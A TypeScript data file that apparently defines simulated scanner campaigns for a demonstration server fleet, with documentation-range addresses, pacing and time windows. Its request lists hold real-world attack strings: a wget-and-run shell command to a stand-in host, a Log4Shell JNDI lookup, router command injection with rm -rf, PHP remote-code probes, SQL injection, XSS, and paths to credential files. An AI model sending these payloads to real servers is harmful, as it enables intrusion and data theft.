/** A tool that goes over the fleet: what it asks for, where it comes from, and when. */
export type Campaign = {
  name: string;
  /** Requests of one run, in order: method and target, or a whole request line where it is none. */
  requests: readonly string[];
  addresses: readonly string[];
  userAgent?: string;
  /** Roles of the servers that it goes to; all where it is missing. */
  roles?: readonly string[];
  /** Servers that one run touches at most. */
  serversMax: number;
  /** Mean runs an hour over the whole fleet. */
  runsPerHour: number;
  /** Only from so many hours before now until so many; several such times make a campaign that comes back. */
  windows?: readonly (readonly [number, number])[];
  /** Seconds between two requests of a run. */
  pace: number;
};

// Documentation addresses (RFC 5737, RFC 3849) stand for attackers: no real network is accused.
const range = (prefix: string, from: number, count: number): string[] =>
  Array.from({ length: count }, (_, i) => `${prefix}.${from + i}`);

const cgiNames =
  "bash contact.cgi defaultwebpage.cgi env.cgi fire.cgi forum.cgi hello.cgi index.cgi login.cgi main.cgi meme.cgi php " +
  "php4 php5 php5-cli recent.cgi sat-ir-web.pl test-cgi test.cgi test-cgi.pl test.sh tools/tools.pl";

const secretFiles =
  "/.env /.env.local /.env.production /.git/config /.git/HEAD /.aws/credentials /.ssh/id_rsa /config.json /backup.zip " +
  "/backup.sql /db.sql /wp-config.php.bak /.DS_Store /.htpasswd /docker-compose.yml /.svn/entries";

/** Names that somebody made up for this fleet: a list that nobody else goes through. */
const backups =
  "/example.com.zip /example.com.tar.gz /example.sql /www.example.com.zip /shop-example.sql.gz /example_db.sql " +
  "/site-example.tar /old-example.com.zip /example-2026.sql /export-example.csv.zip /example.com_backup.tar.gz";

const day = 24;

/** What tries the demonstration's doors; every request line has been seen on real servers. */
export const campaigns: readonly Campaign[] = [
  {
    name: "CGI wordlist",
    requests: [
      "GET HTTP/1.1",
      "GET /",
      ...cgiNames.split(" ").map((name) => `GET /cgi-bin/${name}`),
      "GET /phppath/php",
    ],
    addresses: ["192.0.2.145", "198.51.100.223"],
    roles: ["web"],
    serversMax: 4,
    runsPerHour: 2,
    windows: [
      [12 * day + 3, 12 * day + 1],
      [4.5, 2.8],
    ],
    pace: 0.25,
  },
  {
    name: "backups",
    requests: backups.split(" ").map((target) => `GET ${target}`),
    addresses: ["198.51.100.231", "198.51.100.232", "198.51.100.233"],
    userAgent: "python-requests/2.32.3",
    roles: ["web", "shop"],
    serversMax: 5,
    runsPerHour: 3,
    windows: [[28, 26.5]],
    pace: 0.5,
  },
  {
    name: "passwords",
    requests: Array.from({ length: 70 }, () => "POST /wp-login.php"),
    addresses: ["192.0.2.250"],
    roles: ["blog"],
    serversMax: 2,
    runsPerHour: 1,
    windows: [[51, 50]],
    pace: 2,
  },
  {
    name: "RTSP sweep",
    requests: ["OPTIONS / RTSP/1.0"],
    addresses: ["2a06:4880:1000::20", "2a06:4880:1000::31", "2a06:4880:1000::7"],
    serversMax: 14,
    runsPerHour: 1.4,
    pace: 1,
  },
  {
    name: "secret files",
    requests: secretFiles.split(" ").map((target) => `GET ${target}`),
    addresses: range("203.0.113", 10, 40),
    userAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    serversMax: 2,
    runsPerHour: 3.5,
    pace: 0.6,
  },
  {
    name: "WordPress",
    requests: [
      "GET /wp-login.php",
      "POST /xmlrpc.php",
      "GET /wp-content/plugins/wp-file-manager/readme.txt",
      "POST /wp-login.php",
    ],
    addresses: range("198.51.100", 40, 24),
    roles: ["blog", "web", "shop"],
    serversMax: 3,
    runsPerHour: 5,
    pace: 2,
  },
  {
    name: "devices",
    requests: [
      "POST /boaform/admin/formLogin",
      "GET /HNAP1/",
      "POST /GponForm/diag_Form?images/",
      "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*",
      "GET /shell?cd+/tmp;wget+http://192.0.2.9/a;sh+a",
    ],
    addresses: range("192.0.2", 60, 30),
    serversMax: 2,
    runsPerHour: 3,
    pace: 4,
  },
  {
    name: "remote code",
    requests: [
      "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
      "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=a",
      "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
      "GET /?x=${jndi:ldap://192.0.2.9/a}",
    ],
    addresses: range("203.0.113", 100, 16),
    userAgent: "libredtail-http",
    serversMax: 2,
    runsPerHour: 2,
    windows: [
      [20 * day, 17 * day],
      [2 * day, 0],
    ],
    pace: 1,
  },
  {
    name: "TLS on plain ports",
    requests: ["\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03"],
    addresses: range("198.51.100", 100, 20),
    serversMax: 3,
    runsPerHour: 2.5,
    pace: 3,
  },
  {
    name: "other protocols",
    requests: [
      "MGLNDD_198.51.100.7_80",
      "SSH-2.0-Go",
      "\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    ],
    addresses: range("203.0.113", 180, 12),
    serversMax: 4,
    runsPerHour: 1.2,
    pace: 5,
  },
  {
    name: "open proxy",
    requests: ["CONNECT example.org:443", "GET http://example.org/azenv.php"],
    addresses: range("192.0.2", 200, 8),
    serversMax: 3,
    runsPerHour: 0.8,
    pace: 2,
  },
  {
    name: "admin panels",
    requests: [
      "GET /phpmyadmin/index.php",
      "GET /manager/html",
      "GET /actuator/health",
      "GET /solr/admin/info/system?wt=json",
      "GET /admin/login",
    ],
    addresses: range("198.51.100", 160, 20),
    userAgent: "Mozilla/5.0 zgrab/0.x",
    serversMax: 3,
    runsPerHour: 2,
    windows: [
      [24 * day, 22 * day],
      [15 * day, 13 * day],
      [5 * day, 4 * day],
    ],
    pace: 1.5,
  },
  {
    name: "injection",
    requests: [
      "GET /item/4711?id=1%27%20UNION%20SELECT%20NULL,NULL--%20-",
      "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E",
      "GET /item/4711?id=1%20AND%20SLEEP(5)",
    ],
    addresses: range("203.0.113", 220, 6),
    userAgent: "sqlmap/1.8.2#stable (https://sqlmap.org)",
    roles: ["shop", "api"],
    serversMax: 1,
    runsPerHour: 0.7,
    windows: [[4 * day, 3 * day]],
    pace: 0.5,
  },
];
